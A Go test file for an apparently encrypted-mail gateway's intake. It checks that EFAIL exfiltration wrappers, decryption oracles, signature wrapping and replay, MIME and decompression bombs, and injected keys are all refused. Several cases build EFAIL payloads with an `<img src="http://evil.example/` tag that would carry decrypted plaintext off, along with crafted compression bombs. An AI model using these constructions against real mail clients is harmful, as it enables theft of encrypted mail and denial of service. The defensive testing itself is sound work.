package intake_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"

	"relais.example/crypto/pgpmime"
	"relais.example/gateway/intake"
	"relais.example/gateway/smtpd"
	"relais.example/routing/journal"
	"relais.example/routing/verdict"
	"relais.example/test/desk"
)

// refused sends a message and wants the reply of a reason.
func (p *port) refused(want verdict.Reason, raw []byte) {
	p.t.Helper()
	o, err := p.in.Receive(p.t.Context(), inbound(raw))
	noError(p.t, err)
	e := verdict.Of(want)
	if o != (smtpd.Outcome{Code: e.Code, Status: e.Status, Text: string(want) + ": " + e.Text}) {
		p.t.Errorf("answered %+v, want %s", o, want)
	}
}

// good is a message of XB-1 as its parts: the ciphertext, and what is in it.
func (p *port) good() (raw, ciphertext string) {
	p.t.Helper()
	raw = string(p.fromBeta(pgpmime.Draft{Body: []byte(preserve)}))
	i, j := strings.Index(raw, "-----BEGIN PGP MESSAGE"), strings.Index(raw, "-----END PGP MESSAGE-----")
	return raw, raw[i:j] + "-----END PGP MESSAGE-----\r\n"
}

// Threat 2: EFAIL, direct exfiltration. Ciphertext of a contact point, caught
// on the way, is put between parts that would carry its plaintext off.
func TestCiphertextBesideOtherPartsIsNeverOpened(t *testing.T) {
	p := open(t)
	_, ciphertext := p.good()
	part := encryptedPart(ciphertext)
	html := func(text string) string { return "Content-Type: text/html\r\n\r\n" + text + "\r\n" }
	mixed := func(kind string, parts ...string) string {
		return "Content-Type: multipart/" + kind + "; boundary=\"m\"\r\n\r\n--m\r\n" + strings.Join(parts, "\r\n--m\r\n") + "\r\n--m--\r\n"
	}
	third := strings.Replace(part, "\r\n--enc--", "\r\n--enc\r\n"+html("<img src=\"http://evil.example/")+"\r\n--enc--", 1)
	for name, content := range map[string]string{
		"between two halves of an image":     mixed("mixed", html(`<img src="http://evil.example/`), part, html(`">`)),
		"related to a page":                  mixed("related", html(`<img src="cid:x">`), part),
		"as an alternative":                  mixed("alternative", "Content-Type: text/plain\r\n\r\nHello\r\n", part),
		"alone in a mixed message":           mixed("mixed", part),
		"in a mail that is attached":         mixed("mixed", "\r\nSee the mail attached.\r\n", "Content-Type: message/rfc822\r\n\r\nFrom: x@y.example\r\n"+part),
		"as two encrypted parts":             mixed("mixed", part, part),
		"as a third part of the encrypted":   third,
		"behind the closing boundary":        part + html("<p>And more</p>"),
		"twice inline":                       "\r\n" + ciphertext + "\r\n" + ciphertext,
		"inline below text":                  "\r\nPlease read:\r\n" + ciphertext,
		"inline above text":                  "\r\n" + ciphertext + "And more.\r\n",
		"inline in a page":                   html("<pre>" + ciphertext + "</pre>"),
		"inline, behind a transfer encoding": "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte("<p>"+ciphertext)) + "\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			p := *p
			p.t = t
			p.refused(verdict.BadStructure, letter(desk.Beta, content))
		})
	}
}

// Threats 1 and 19: EFAIL gadgets need ciphertext that can be altered, oracles
// need replies that differ. Whatever fails to decrypt is answered alike.
func TestOneReplyForAllThatDoesNotDecrypt(t *testing.T) {
	p := open(t, func(o *intake.Options) { o.Rules.Limits.MaxPlaintext = 1 << 20 })
	_, ciphertext := p.good()
	lines := strings.Split(ciphertext, "\r\n")
	middle := len(lines) / 2
	changed := func(f func(lines []string)) string {
		c := append([]string(nil), lines...)
		f(c)
		return strings.Join(c, "\r\n")
	}
	packets := func(parts ...[]byte) string {
		return armored(t, "PGP MESSAGE", func(w io.Writer) error {
			_, err := w.Write(bytes.Join(parts, nil))
			return err
		})
	}
	write := func(f func(w *bytes.Buffer) error) []byte {
		var b bytes.Buffer
		noError(t, f(&b))
		return b.Bytes()
	}
	session := bytes.Repeat([]byte{7}, 32)
	ours := entityOf(t, p.Keys["XA-1"]).Subkeys[0].PublicKey
	key := write(func(w *bytes.Buffer) error {
		return packet.SerializeEncryptedKey(w, ours, packet.CipherAES256, session, nil)
	})
	literal := append([]byte{0xcb, 11, 'b', 0, 0, 0, 0, 0}, "hello"...)
	bomb := bytes.Repeat([]byte{0}, 1<<20)
	for name, message := range map[string]string{
		"for another key":              string(p.encrypt("XC-1", preserve)),
		"altered in the middle":        changed(func(l []string) { l[middle] = strings.Repeat("A", len(l[middle])) }),
		"altered at the end":           changed(func(l []string) { l[len(l)-5] = strings.Repeat("B", len(l[len(l)-5])) }),
		"cut off":                      changed(func(l []string) { l[middle], l[middle+1] = "", "" }),
		"not protected against change": packets(key, append([]byte{0xc9, 40}, bytes.Repeat([]byte{1}, 40)...)),
		"a wrong session key":          packets(key, append([]byte{0xd2, 60, 1}, bytes.Repeat([]byte{1}, 59)...)),
		"no session key":               packets(append([]byte{0xd2, 60, 1}, bytes.Repeat([]byte{1}, 59)...)),
		"a password": packets(write(func(w *bytes.Buffer) error {
			_, err := packet.SerializeSymmetricKeyEncrypted(w, []byte("x"), &packet.Config{})
			return err
		}), append([]byte{0xd2, 60, 1}, bytes.Repeat([]byte{1}, 59)...)),
		"never encrypted":                packets(literal),
		"clear beside the encrypted":     packets(key, literal),
		"no packets at all":              "-----BEGIN PGP MESSAGE-----\r\n\r\n-----END PGP MESSAGE-----\r\n",
		"no armor":                       "hello\r\n",
		"altered, and large when opened": p.alteredBomb(bomb),
	} {
		t.Run(name, func(t *testing.T) {
			p := *p
			p.t = t
			p.refused(verdict.CannotOpen, letter(desk.Beta, encryptedPart(message)))
		})
	}
}

// alteredBomb is a message that is over the limit when opened, with a byte of
// it changed: that it would be too large must not show.
func (p *port) alteredBomb(plain []byte) string {
	p.t.Helper()
	whole := armored(p.t, "PGP MESSAGE", func(w io.Writer) error {
		cfg := &packet.Config{DefaultCompressionAlgo: packet.CompressionZLIB, CompressionConfig: &packet.CompressionConfig{Level: 9}}
		plainWriter, err := openpgp.EncryptWithParams(w, []*openpgp.Entity{entityOf(p.t, p.Keys["XA-1"])}, nil, &openpgp.EncryptParams{Config: cfg})
		if err != nil {
			return err
		}
		for range 2 {
			if _, err := plainWriter.Write(plain); err != nil {
				return err
			}
		}
		return plainWriter.Close()
	})
	p.refused(verdict.OverLimits, letter(desk.Beta, encryptedPart(whole))) // as it is
	lines := strings.Split(whole, "\r\n")
	i := len(lines) / 2
	lines[i] = strings.Repeat("A", len(lines[i]))
	return strings.Join(lines, "\r\n")
}

// Threat 3: what is signed must be all there is.
func TestSignatureElsewhereProvesNothing(t *testing.T) {
	p := open(t)
	signed := p.beta().signed(t, p.beta().entity(), time.Now())
	in := func(kind, part string) string {
		return "Content-Type: multipart/" + kind + "; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nSend the data elsewhere.\r\n\r\n--m\r\n" + part + "\r\n--m--\r\n"
	}
	inner := strings.NewReplacer(`"sig"`, `"inner"`, "--sig", "--inner").Replace(signed)
	attached := "Content-Type: message/rfc822\r\n\r\nFrom: " + desk.Beta + "\r\n" + signed
	for name, tt := range map[string]struct {
		content string
		want    verdict.Reason
	}{
		"beside text":                     {in("mixed", signed), verdict.PartlySigned},
		"as an alternative":               {in("alternative", signed), verdict.PartlySigned},
		"in a digest of a list":           {in("mixed", "Content-Type: multipart/mixed; boundary=\"n\"\r\n\r\n--n\r\n"+signed+"\r\n--n--\r\n"), verdict.PartlySigned},
		"on an attached mail":             {in("mixed", attached), verdict.UnsignedListed},
		"on a mail that is all there is":  {attached, verdict.UnsignedListed},
		"as a file":                       {in("mixed", "Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n"+signed), verdict.UnsignedListed},
		"over another part than is shown": {strings.Replace(signed, "\r\n--sig\r\n", "\r\n--sig\r\nContent-Type: text/plain\r\n\r\nSend the data elsewhere.\r\n--sig\r\n", 1), verdict.BadStructure},
		"over a signed part":              {p.beta().signed(t, in("mixed", inner), time.Now()), verdict.NotBound}, // what is outside counts
	} {
		t.Run(name, func(t *testing.T) {
			p := *p
			p.t = t
			raw := p.sealed(desk.Beta, tt.content)
			if verdict.Of(tt.want).Default == verdict.Reject {
				p.refused(tt.want, raw)
				return
			}
			if o := p.send(250, raw); !strings.Contains(o.Text, "("+string(tt.want)+": ") {
				t.Errorf("answered %q, want %s", o.Text, tt.want)
			}
		})
	}
}

// Threat 6: of two signatures over one message, each is remembered.
func TestReplayWithOneOfTwoSignaturesIsOne(t *testing.T) {
	p := open(t)
	entity := p.beta().entity()
	first := p.beta().altered(t, entity, func(*packet.Signature) {})
	second := p.beta().altered(t, entity, func(s *packet.Signature) { s.CreationTime = time.Now().Add(-time.Minute) })
	message := func(sigs ...[]byte) []byte { return p.sealed(desk.Beta, around(entity, signatureArmor(t, sigs...))) }
	p.send(250, message(first, second))
	for name, raw := range map[string][]byte{
		"the first": message(first), "the second": message(second), "turned round": message(second, first), "both": message(first, second),
	} {
		t.Run(name, func(t *testing.T) {
			p := *p
			p.t = t
			p.refused(verdict.Replayed, raw)
		})
	}
}

// Threat 24: fields that may stand once, and do not.
func TestRepeatedFieldsAreRefused(t *testing.T) {
	p := open(t)
	for _, field := range []string{"Date: Mon, 23 Nov 2026 10:00:00 +0000", "Subject: other", "To: " + desk.Gamma, "Message-ID: <a@b.example>", "Reply-To: a@b.example",
		"Content-Type: text/plain", "Sender: a@b.example"} {
		raw, _ := p.good()
		p.refused(verdict.BadStructure, []byte(field+"\r\n"+field+"x\r\n"+raw))
		inner := p.beta().entity(field+"\r\n", field+"x\r\n")
		p.refused(verdict.BadStructure, p.sealed(desk.Beta, p.beta().signed(t, inner, time.Now())))
	}
}

// Threat 8: outside and inside of the encryption, and in one header.
func TestBombsOfPartsAndHeadersAreRefused(t *testing.T) {
	p := open(t)
	var deep strings.Builder
	for i := range 30 {
		fmt.Fprintf(&deep, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i)
	}
	for name, content := range map[string]string{
		"depth":              deep.String(),
		"parts":              "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + strings.Repeat("--b\r\n\r\nx\r\n", 2000) + "--b--\r\n",
		"one long header":    "X-Long: " + strings.Repeat("a", 70<<10) + "\r\n\r\nx\r\n",
		"many header fields": strings.Repeat("X-Many: a\r\n", 7000) + "\r\nx\r\n",
		"headers of parts":   "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + strings.Repeat("--b\r\nX-Long: "+strings.Repeat("a", 60<<10)+"\r\n\r\nx\r\n", 20) + "--b--\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			p := *p
			p.t = t
			p.refused(verdict.OverLimits, letter(desk.Beta, content))
			p.refused(verdict.OverLimits, p.sealed(desk.Beta, content))
			p.refused(verdict.OverLimits, p.sealed(desk.Beta, p.beta().signed(t, content, time.Now())))
		})
	}
}

// Threat 17: keys that come by mail change nothing.
func TestKeysInMailChangeNoTrust(t *testing.T) {
	p := open(t)
	key := string(p.Keys["stranger"].Certificate().Armor())
	binary, _, _ := strings.Cut(strings.SplitN(key, "\n\n", 2)[1], "\n=")
	autocrypt := [2]string{"Autocrypt", "addr=" + desk.Beta + "; prefer-encrypt=mutual; keydata=" + strings.ReplaceAll(binary, "\n", "")}
	p.send(250, p.fromBeta(pgpmime.Draft{
		Outside: [][2]string{autocrypt}, ContentType: `multipart/mixed; boundary="b"`,
		Body: []byte("--b\r\nContent-Type: text/plain\r\n\r\n" + preserve + "\r\n--b\r\nContent-Type: application/pgp-keys\r\n\r\n" + strings.ReplaceAll(key, "\n", "\r\n") + "\r\n--b--\r\n"),
	}))
	p.refused(verdict.UnknownKey, p.Seal("stranger", "XA-1", pgpmime.Draft{From: desk.Beta, Body: []byte(preserve)}))
	p.refused(verdict.UnknownKey, p.Seal("stranger", "XA-1", pgpmime.Draft{From: desk.Beta, Body: []byte(preserve), Outside: [][2]string{autocrypt}}))
}

// Threat 18: what is encrypted is written nowhere in clear.
func TestSubjectAndTextStandNowhereInClear(t *testing.T) {
	p := open(t)
	p.send(250, p.fromBeta(pgpmime.Draft{Subject: "secret subject", Body: []byte("secret text. " + preserve)}))
	p.send(250, p.fromBeta(pgpmime.Draft{From: desk.Nobody, Subject: "secret subject", Body: []byte("secret text. " + preserve)}))
	text, err := os.ReadFile(filepath.Join(p.JournalDir, journal.FileName))
	noError(t, err)
	for where, text := range map[string]string{"journal": string(text), "log": p.Logged.String()} {
		for _, secret := range []string{"secret subject", "secret text", desk.Beta, desk.Nobody} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s holds %q", where, secret)
			}
		}
	}
}

// Threat 4: an answer goes where the Directory says.
func TestReplyToOfAMessageIsNotFollowed(t *testing.T) {
	p := open(t)
	raw := p.fromBeta(pgpmime.Draft{Extra: [][2]string{{"Reply-To", desk.Nobody}}, Body: []byte(preserve)})
	p.send(250, append([]byte("Reply-To: "+desk.Nobody+"\r\n"), raw...))
	head, _, _ := strings.Cut(p.Body(p.Folder("INBOX")[0].Item), "\r\n\r\n")
	if !strings.Contains(head, "\r\nReply-To: \"XB-1\" <"+desk.Beta+">\r\n") || strings.Contains(head, desk.Nobody) {
		t.Errorf("staff see\n%s", head)
	}
}
